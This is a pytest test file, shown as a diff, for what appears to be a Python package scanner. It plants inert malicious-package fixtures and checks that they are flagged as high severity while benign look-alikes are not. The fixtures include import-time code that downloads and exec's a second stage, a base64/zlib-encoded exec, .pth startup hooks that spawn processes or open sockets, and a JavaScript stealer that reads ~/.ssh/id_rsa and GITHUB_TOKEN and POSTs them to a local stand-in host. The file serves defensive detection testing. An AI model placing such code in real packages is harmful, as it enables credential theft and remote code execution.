@@ -1,0 +1,231 @@
+"""Import-time code and release shapes: each wave mechanic (inert) is high with no pack; its
+benign twin stays low or below; nothing planted ever runs."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Callable, List, Tuple
+
+import pytest
+
+from builders import FakeRoot
+from scanrun import SITE
+from sitesweep.model import Severity
+from waves import (
+    ELF,
+    PE,
+    analyze_rules,
+    b64_payload,
+    base_host,
+    canary_code,
+    findings,
+    set_wheel_tag,
+    worst,
+)
+
+IMPORT = "heuristic/import-time-code"
+SHAPE = "heuristic/release-shape"
+
+
+# --- mechanics --------------------------------------------------------------------------------
+def init_download_run(root: FakeRoot) -> None:
+    init = (
+        '"""A helpful client."""\nimport threading\nimport urllib.request\n\n'
+        "_STAGE = 'http://127.0.0.1:9/stage2.py'\n\n"
+        "def _update():\n    code = urllib.request.urlopen(_STAGE, timeout=1).read()\n"
+        "    exec(code, {})\n\n"
+        "threading.Thread(target=_update, daemon=True).start()\n"
+    )
+    root.add_dist(SITE, "helpful-client", "2.4.1", {"helpful_client/__init__.py": init.encode()})
+
+
+def init_download_run_twin(root: FakeRoot) -> None:
+    init = (
+        '"""A helpful client."""\nimport urllib.request\n\n'
+        "__url__ = 'https://example.org/helpful-client'\n_API = 'https://api.example.org/v1'\n\n"
+        "def fetch(path):\n    return urllib.request.urlopen(_API + path).read()\n"
+    )
+    root.add_dist(SITE, "helpful-client", "2.4.1", {"helpful_client/__init__.py": init.encode()})
+
+
+def init_decode_exec(root: FakeRoot) -> None:
+    init = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{b64_payload(root)}')))\n"
+    root.add_dist(SITE, "colorlogx", "0.3.0", {"colorlogx/__init__.py": init.encode()})
+
+
+def submodule_fetch_spawn(root: FakeRoot) -> None:
+    files = {
+        "metricsd/__init__.py": b"from . import _telemetry\n__version__ = '1.0'\n",
+        "metricsd/_telemetry.py": (
+            b"import os, subprocess, urllib.request\n"
+            b"urllib.request.urlretrieve('http://127.0.0.1:9/x', '/tmp/.m')\n"
+            b"subprocess.Popen(['/bin/sh', '/tmp/.m'])\n"
+        ),
+    }
+    root.add_dist(SITE, "metricsd", "1.0", files)
+
+
+def init_writes_pth(root: FakeRoot) -> None:
+    init = (
+        "import os, site\n"
+        "_p = os.path.join(site.getsitepackages()[0], 'zz_sync.pth')\n"
+        "with open(_p, 'w') as f:\n    f.write('import zz_sync\\n')\n"
+    )
+    root.add_dist(SITE, "syncutil", "1.1", {"syncutil/__init__.py": init.encode()})
+
+
+def pth_bundled_module(root: FakeRoot) -> None:
+    root.add_pth(SITE, "helper_boot.pth", "import _helper_boot\n")
+    module = (
+        "import subprocess, sys\n"
+        f"subprocess.Popen([sys.executable, '-c', {canary_code(root)!r}],\n"
+        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+    )
+    root.add_file(f"{SITE}/_helper_boot.py", module)
+
+
+def pth_calls_module_function(root: FakeRoot) -> None:
+    root.add_pth(SITE, "acc-init.pth", "import acc_hook; acc_hook.start()\n")
+    module = (
+        "import socket\n\ndef start():\n"
+        "    s = socket.create_connection(('127.0.0.1', 9))\n    s.send(b'hello')\n"
+    )
+    root.add_dist(SITE, "acc-hook", "0.1", {"acc_hook/__init__.py": module.encode()})
+
+
+def pth_multiprocessing(root: FakeRoot) -> None:
+    root.add_pth(SITE, "mpboot.pth", "import mpboot\n")
+    module = (
+        "import multiprocessing\n\ndef _work():\n    pass\n\n"
+        "multiprocessing.Process(target=_work, daemon=True).start()\n"
+    )
+    root.add_file(f"{SITE}/mpboot.py", module)
+
+
+def pth_virtualenv_twin(root: FakeRoot) -> None:
+    root.add_pth(SITE, "_virtualenv.pth", "import _virtualenv\n")
+    module = (
+        '"""Patches distutils for virtualenv."""\nimport os\nimport sys\n\n'
+        "VIRTUALENV_PATCH_FILE = os.path.join(__file__)\n\n"
+        "def patch_dist(dist):\n    old = dist.Distribution.parse_config_files\n"
+        "    dist.Distribution.parse_config_files = old\n\n"
+        "class _Finder:\n    fullname = None\n    lock = []\n"
+        "    def find_spec(self, fullname, path, target=None):\n        return None\n\n"
+        "sys.meta_path.insert(0, _Finder())\n"
+    )
+    root.add_file(f"{SITE}/_virtualenv.py", module)
+
+
+def pure_native(root: FakeRoot) -> None:
+    files = {
+        "fastjsonx/__init__.py": b"from ._speedups import loads\n",
+        "fastjsonx/_speedups.cpython-311-x86_64-linux-gnu.so": ELF,
+    }
+    root.add_dist(SITE, "fastjsonx", "3.0.1", files)
+    set_wheel_tag(root, "fastjsonx", "3.0.1", "py3-none-any")
+
+
+def platform_native_twin(root: FakeRoot) -> None:
+    pure_native(root)
+    set_wheel_tag(root, "fastjsonx", "3.0.1", "cp311-cp311-manylinux_2_17_x86_64")
+
+
+def pure_ctypes(root: FakeRoot) -> None:
+    init = (
+        "import ctypes, os\n"
+        "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libcrc.bin'))\n"
+    )
+    files = {"crcfast/__init__.py": init.encode(), "crcfast/libcrc.bin": PE}
+    root.add_dist(SITE, "crcfast", "0.9", files)
+    set_wheel_tag(root, "crcfast", "0.9", "py3-none-any")
+
+
+def js_stealer_bun(root: FakeRoot) -> None:
+    js = (
+        "const fs = require('fs'); const os = require('os');\n"
+        "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
+        "fetch('http://127.0.0.1:9/c', {method: 'POST', body: key + process.env.GITHUB_TOKEN});\n"
+    )
+    files = {
+        "nodebridge/__init__.py": b"__version__ = '1.2'\n",
+        "nodebridge/dist/index.js": js.encode(),
+        "nodebridge/bin/bun": ELF,
+    }
+    root.add_dist(SITE, "nodebridge", "1.2", files)
+
+
+def js_ui_twin(root: FakeRoot) -> None:
+    js = "document.addEventListener('DOMContentLoaded', () => { console.log('ready'); });\n" * 3
+    files = {"dashui/__init__.py": b"", "dashui/static/app.js": js.encode()}
+    root.add_dist(SITE, "dashui", "5.0", files)
+
+
+Case = Tuple[str, Callable[[FakeRoot], None], str, str]
+MECHANICS: List[Case] = [
+    ("init-download-run", init_download_run, IMPORT, "helpful_client/__init__.py"),
+    ("init-decode-exec", init_decode_exec, IMPORT, "colorlogx/__init__.py"),
+    ("submodule-fetch-spawn", submodule_fetch_spawn, IMPORT, "metricsd/_telemetry.py"),
+    ("init-writes-pth", init_writes_pth, IMPORT, "syncutil/__init__.py"),
+    ("pth-bundled-module", pth_bundled_module, IMPORT, "_helper_boot.py"),
+    ("pth-calls-function", pth_calls_module_function, IMPORT, "acc_hook/__init__.py"),
+    ("pth-multiprocessing", pth_multiprocessing, IMPORT, "mpboot.py"),
+    ("pure-native", pure_native, SHAPE, "fastjsonx"),
+    ("pure-ctypes", pure_ctypes, IMPORT, "crcfast/__init__.py"),
+    ("js-stealer-bun", js_stealer_bun, SHAPE, "nodebridge"),
+]
+TWINS: List[Case] = [
+    ("init-fetch-defined-only", init_download_run_twin, IMPORT, "helpful_client/__init__.py"),
+    ("virtualenv-pth", pth_virtualenv_twin, IMPORT, "_virtualenv.py"),
+    ("platform-native", platform_native_twin, SHAPE, "fastjsonx"),
+    ("js-ui-bundle", js_ui_twin, SHAPE, "dashui"),
+]
+
+
+def _at(found: List[dict[str, object]], rule: str, suffix: str) -> Severity:
+    hits = [f for f in found if f["rule"] == rule and any(
+        str(p).endswith(suffix) for p in f["paths"]  # type: ignore[attr-defined]
+    )]  # fmt: skip
+    return worst(hits, rule)
+
+
+@pytest.mark.parametrize("case", MECHANICS, ids=[c[0] for c in MECHANICS])
+def test_mechanic_is_high_without_packs(case: Case, fake_root: FakeRoot, tmp_path: Path) -> None:
+    _, build, rule, suffix = case
+    base_host(fake_root)
+    build(fake_root)
+    found = findings(fake_root, tmp_path / "out")
+    assert _at(found, rule, suffix).at_least(Severity.HIGH), found
+    assert not fake_root.marker.exists()
+
+
+@pytest.mark.parametrize("case", TWINS, ids=[c[0] for c in TWINS])
+def test_benign_twin_stays_low(case: Case, fake_root: FakeRoot, tmp_path: Path) -> None:
+    _, build, _, _ = case
+    base_host(fake_root)
+    build(fake_root)
+    found = findings(fake_root, tmp_path / "out")
+    too_high = [f for f in found if Severity(str(f["severity"])).rank > Severity.LOW.rank]
+    assert not too_high, too_high
+    assert not fake_root.marker.exists()
+
+
+def test_analyze_grades_the_same_from_the_bundle(fake_root: FakeRoot, tmp_path: Path) -> None:
+    from scanrun import scan
+
+    base_host(fake_root)
+    init_download_run(fake_root)
+    pure_native(fake_root)
+    _, bundle = scan(fake_root.path, tmp_path / "scan", "--no-builtin-packs")
+    found = analyze_rules(bundle, tmp_path / "analysis")
+    assert worst(found, IMPORT) is Severity.HIGH
+    assert worst(found, SHAPE) is Severity.HIGH
+
+
+def test_huge_module_is_a_gap_not_a_pass(fake_root: FakeRoot, tmp_path: Path) -> None:
+    from scanrun import gap_paths, scan
+
+    base_host(fake_root)
+    big = b"import os\n" + b"x = 1\n" * 200_000
+    fake_root.add_dist(SITE, "bigpkg", "1.0", {"bigpkg/__init__.py": big})
+    _, bundle = scan(fake_root.path, tmp_path / "out", "--no-builtin-packs")
+    assert f"{SITE}/bigpkg/__init__.py" in gap_paths(bundle, "too_large")
